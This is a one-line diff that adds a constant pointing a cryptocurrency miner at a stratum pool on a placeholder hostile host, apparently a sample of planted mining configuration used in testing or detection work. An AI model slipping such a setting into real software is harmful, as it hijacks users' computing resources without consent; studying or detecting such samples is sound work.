@@ -1,0 +1,1 @@
+POOL = "stratum+tcp://pool.evil.example:3333"
